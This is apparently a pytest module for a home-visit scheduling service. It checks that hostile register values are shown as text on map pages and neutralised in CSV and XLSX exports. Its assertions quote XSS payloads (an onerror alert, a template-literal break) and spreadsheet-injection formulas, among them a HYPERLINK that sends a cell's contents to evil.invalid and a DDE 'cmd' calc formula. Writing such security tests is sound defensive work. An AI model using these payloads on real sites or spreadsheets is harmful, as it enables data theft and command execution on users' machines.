"""Hostile register values pushed through import -> plan -> every page and every export.

A team's registers are rewritten so that the centre, the committees, the clinicians and the
residents carry script tags, template-literal breaks, quotes, formulas, a right-to-left override
and very long texts (and resident ids carry them too); the registers go through the CSV writer
and the importer, a week is planned twice, and then:

- every map page (a clinician's day, the nurse's own ``/me/routes/{date}``, the team's week, the
  comparison of the two plans) is opened in the real chromium: no dialog may open, no console
  error (the Content-Security-Policy would report a blocked script), and the hostile texts are
  shown as the text they are;
- both exports (CSV and XLSX) hold no formula and no text cell that a spreadsheet would read as
  one, while keeping the values readable;
- a NUL or a right-to-left override in a value is either refused at import with a clear error,
  or stored and shown harmlessly.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from scheduler.dataset import DatasetError, read_dataset, write_dataset
from scheduler.model import Dataset
from scheduler.params import SolveParams
from scheduler.solve import build_problem, solve
from service.api.app import create_app
from service.api.deps import TOKEN_COOKIE, make_token
from service.db.exporter import export_dataset, load_dataset
from service.db.importer import DatabaseWriteError, import_dataset
from service.db.plans import save_plan, set_status
from service.db.tables import PlanStatus, PlanStopRow, ResidentRow, UserRole
from service.users import add_user
from tests.hostile import (
    HOSTILE_IDS,
    HOSTILE_TEXTS,
    NUL_TEXT,
    refusable,
    starts_formula,
    without_refusable,
)
from tests.maps.test_map_browser import ARTIFACTS, CHROMIUM, QUIET_FLAGS, watch
from tests.service.api.conftest import PASSWORD, serve_app, settings_for
from tests.service.db.conftest import BACKENDS, SAMPLE, open_database

WEEK = dt.date(2026, 11, 30)
TEAM = "MH03-T1"
NURSE = "MH03-T1-N"
USERS = {
    "admin": (UserRole.ADMIN, None, None),
    "lead1": (UserRole.TEAM_LEADER, TEAM, None),
    "nurse1": (UserRole.CLINICIAN, None, NURSE),
    "planner": (UserRole.PLANNER, None, None),
}


OPEN_TOOLTIPS = """() => {
  let opened = 0;
  for (const name of Object.keys(window)) {
    const map = window[name];
    if (!(map instanceof L.Map)) { continue; }
    map.eachLayer((layer) => {
      if (!layer.getTooltip || !layer.getTooltip()) { return; }
      try {
        layer.openTooltip(layer.getLatLng ? layer.getLatLng() : layer.getCenter());
        opened += 1;
      } catch (e) { /* a line of one point has no centre: its tooltip stays closed */ }
    });
  }
  return opened;
}"""


def _hostile(n: int) -> str:
    return HOSTILE_TEXTS[n % len(HOSTILE_TEXTS)]


def hostile_dataset(sample: Dataset, refusable_values: bool) -> Dataset:
    """The sample centre narrowed to one team, with hostile names, addresses and ids.

    Without ``refusable_values``, the characters an importer may refuse (a NUL, a direction
    override) are left out of every value.
    """
    keep = (lambda text: text) if refusable_values else without_refusable
    residents = sorted(
        (r for r in sample.residents.values() if r.team_id == TEAM), key=lambda r: r.resident_id
    )
    new_id = {r.resident_id: r.resident_id for r in residents}
    for old, hostile in zip((r.resident_id for r in residents), HOSTILE_IDS, strict=False):
        new_id[old] = hostile
    renamed = {}
    for n, r in enumerate(residents):
        name = NUL_TEXT if n == 0 else _hostile(n)
        renamed[new_id[r.resident_id]] = dataclasses.replace(
            r, resident_id=new_id[r.resident_id], name=keep(name), address=keep(_hostile(n + 3))
        )
    clinicians = {
        c.clinician_id: dataclasses.replace(c, name=keep(_hostile(n + 1)))
        for n, c in enumerate(c for c in sample.clinicians.values() if c.team_id == TEAM)
    }
    committees = {
        k.committee_id: dataclasses.replace(k, name=keep(_hostile(n + 2)))
        for n, k in enumerate(sample.committees.values())
    }
    centres = {
        c.centre_id: dataclasses.replace(c, name=HOSTILE_TEXTS[0]) for c in sample.centres.values()
    }
    return dataclasses.replace(
        sample,
        centres=centres,
        committees=committees,
        clinicians=clinicians,
        residents=renamed,
        history=tuple(
            dataclasses.replace(h, resident_id=new_id[h.resident_id])
            for h in sample.history
            if h.resident_id in new_id
        ),
        requests=tuple(
            dataclasses.replace(q, resident_id=new_id[q.resident_id])
            for q in sample.requests
            if q.resident_id in new_id
        ),
        sickbeds=tuple(
            dataclasses.replace(e, resident_id=new_id[e.resident_id])
            for e in sample.sickbeds
            if e.resident_id in new_id
        ),
    )


@dataclass
class Hostile:
    """The service holding the hostile registers, and what the tests need to know of it."""

    client: TestClient
    approved_id: int
    draft_id: int
    tokens: dict[str, str]
    clinician_days: list[tuple[str, dt.date]]  # one day with stops per clinician
    nurse_day: dt.date
    refused: str  # the importer's message when it refused the NUL or the override, else ""


@pytest.fixture(scope="module", params=BACKENDS)
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Hostile]:
    """The hostile team imported (through the CSV writer and the importer), planned twice."""
    workdir: Path = tmp_path_factory.mktemp("hostile")
    sample = read_dataset(SAMPLE)
    with open_database(request.param, workdir) as database:
        settings = settings_for(database.url)
        refused = ""
        write_dataset(hostile_dataset(sample, refusable_values=True), workdir / "everything")
        try:
            import_dataset(database.engine, workdir / "everything", settings)
        except (DatasetError, DatabaseWriteError) as exc:  # refused, nothing written
            refused = f"{type(exc).__name__}: {exc}"
            write_dataset(hostile_dataset(sample, refusable_values=False), workdir / "registers")
            import_dataset(database.engine, workdir / "registers", settings)
        with Session(database.engine) as session:
            for name, (role, team, clinician) in USERS.items():
                add_user(session, name, PASSWORD, role, team_id=team, clinician_id=clinician)
            problem = build_problem(load_dataset(session, ["MH03"]), WEEK, centre_ids=["MH03"])
            plan, _ = solve(problem, SolveParams(time_limit_s=3.0), workers=1)
            approved = save_plan(session, problem, plan, "MH03", base=None, saved_by="admin")
            approved = set_status(session, approved, PlanStatus.APPROVED)
            # The second version loses the assistant: her visits move, drop or are added.
            fewer = dataclasses.replace(
                problem,
                clinicians=tuple(c for c in problem.clinicians if c.role.value != "assistant"),
            )
            plan_b, _ = solve(fewer, SolveParams(time_limit_s=2.0), workers=1)
            draft = save_plan(session, problem, plan_b, "MH03", base=approved, saved_by="admin")
            session.commit()
            stops = session.scalars(
                select(PlanStopRow).where(PlanStopRow.plan_id == approved.plan_id)
            ).all()
        days: dict[str, dt.date] = {}
        for stop in sorted(stops, key=lambda s: s.visit_date):
            days.setdefault(stop.clinician_id, stop.visit_date)
        app = create_app(settings, start_jobs=False)
        with TestClient(app) as client:
            yield Hostile(
                client=client,
                approved_id=approved.plan_id,
                draft_id=draft.plan_id,
                tokens={name: make_token(name, settings.secret_key, 60) for name in USERS},
                clinician_days=sorted(days.items()),
                nurse_day=days[NURSE],
                refused=refused,
            )


def test_hostile_registers_are_stored_as_typed(hostile: Hostile) -> None:
    """The importer keeps every hostile value exactly (the CSV writer's quotes are undone); a
    NUL or a direction override is refused with the file and column named, or stored as it is."""
    engine = hostile.client.app.state.engine  # type: ignore[attr-defined]
    with Session(engine) as session:
        names = set(session.scalars(select(ResidentRow.name)))
        ids = set(session.scalars(select(ResidentRow.resident_id)))
    assert set(HOSTILE_IDS) <= ids
    assert {t for t in HOSTILE_TEXTS if not refusable(t)} <= names
    if hostile.refused.startswith("DatasetError"):  # names the file and the column
        assert "residents.csv" in hostile.refused and "name" in hostile.refused
    elif hostile.refused:  # PostgreSQL cannot store a NUL: the import was rolled back
        assert "DatabaseWriteError" in hostile.refused and "NUL" in hostile.refused
    else:
        assert NUL_TEXT in names and set(HOSTILE_TEXTS) <= names


def _pages(hostile: Hostile) -> list[tuple[str, str]]:
    """(user, path) of every map page of the hostile plans."""
    plan = hostile.approved_id
    pages = [
        ("admin", f"/plans/{plan}/maps/day/{quote(c)}/{day}") for c, day in hostile.clinician_days
    ]
    pages += [
        ("lead1", f"/plans/{plan}/maps/team/{TEAM}"),
        ("admin", f"/plans/{plan}/maps/compare/{hostile.draft_id}"),
        ("lead1", f"/plans/{plan}/maps/compare/{hostile.draft_id}"),
        ("nurse1", f"/me/routes/{hostile.nurse_day}?format=html"),
    ]
    return pages


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium at /usr/bin/chromium")
def test_no_hostile_value_runs_on_any_page(hostile: Hostile) -> None:
    """Every map page, opened in chromium at phone and desktop sizes: no dialog, no console
    error (a script blocked by the policy would be one), the values shown as text."""
    sync_api = pytest.importorskip("playwright.sync_api")
    dialogs: list[str] = []
    errors: list[str] = []
    requests: list[str] = []
    shown: list[str] = []
    ARTIFACTS.mkdir(exist_ok=True)
    with serve_app(hostile.client.app) as served, sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=QUIET_FLAGS)
        try:
            for width, height in ((360, 740), (1280, 800)):
                for user, path in _pages(hostile):
                    context = browser.new_context(viewport={"width": width, "height": height})
                    context.add_cookies(
                        [{"name": TOKEN_COOKIE, "value": hostile.tokens[user], "url": served}]
                    )
                    page = context.new_page()
                    watch(page, requests, errors)
                    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                    response = page.goto(served + path)
                    assert response is not None and response.status == 200, path
                    page.wait_for_selector(".leaflet-container")
                    assert page.evaluate("typeof L") == "object", path
                    kind = path.split("/")[4 if path.startswith("/plans") else 1]
                    page.screenshot(
                        path=str(ARTIFACTS / f"hostile-{kind}-{width}x{height}.png"),
                        full_page=True,
                    )
                    # A very long name wraps instead of widening the page.
                    wide = page.evaluate("document.documentElement.scrollWidth")
                    assert wide <= width, f"{path} scrolls sideways at {width} px"
                    # Every tooltip opened, so that its text is put in the page too.
                    opened = page.evaluate(OPEN_TOOLTIPS)
                    assert opened > 0, path
                    assert page.locator(".leaflet-tooltip").count() > 0, path
                    shown.append(page.inner_text("body"))
                    context.close()
        finally:
            browser.close()
    assert dialogs == []
    assert errors == [], errors[:5]
    assert [u for u in requests if not u.startswith(served)] == []
    text = "\n".join(shown)
    # Escaped, not dropped: the values read as what was typed (Chinese included).
    assert HOSTILE_TEXTS[0] in text and '"><img src=x onerror=alert(1)>' in text
    assert "`${alert(1)}`" in text and "欧阳春花长长长" in text


def test_no_formula_in_either_export(hostile: Hostile) -> None:
    """CSV and XLSX exports: no formula, no text cell starting with = + - @ (a quote goes
    first), numbers stay numbers, and the hostile values are still readable after the quote."""
    headers = {"Authorization": f"Bearer {hostile.tokens['admin']}"}
    url = f"/plans/{hostile.approved_id}/export"
    response = hostile.client.get(url, params={"format": "csv"}, headers=headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if starts_formula(c)]
    assert "'" + '=HYPERLINK("http://evil.invalid/?"&A1,"click")' in cells
    assert "'+1" in cells and HOSTILE_TEXTS[0] in cells

    response = hostile.client.get(url, params={"format": "xlsx"}, headers=headers)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas as formulas
    values: list[Any] = []
    for row in book.active.iter_rows(min_row=2):  # type: ignore[union-attr]
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            values.append(cell.value)
    texts = [v for v in values if isinstance(v, str)]
    assert not [t for t in texts if starts_formula(t)]
    assert "'@SUM(1+1)" in texts and "'-2+3+cmd|' /C calc'!A0" in texts
    assert any(isinstance(v, int) for v in values)  # sequence, travel minutes: numbers


def test_exported_registers_open_safely_and_read_back_as_stored(
    hostile: Hostile, tmp_path: Path
) -> None:
    """``homevisit export`` of the hostile registers: no text cell a spreadsheet would run,
    and reading the files back gives every resident's id, name and address as stored."""
    engine = hostile.client.app.state.engine  # type: ignore[attr-defined]
    export_dataset(engine, tmp_path)
    with (tmp_path / "residents.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [v for row in rows for k, v in row.items() if k not in ("lat", "lon")]
    assert rows and not [c for c in cells if starts_formula(c)]
    with Session(engine) as session:
        stored = {
            r.resident_id: (r.name, r.address)
            for r in session.scalars(select(ResidentRow).where(ResidentRow.active.is_(True)))
        }
    read = read_dataset(tmp_path).residents
    assert {k: (r.name, r.address) for k, r in read.items()} == stored
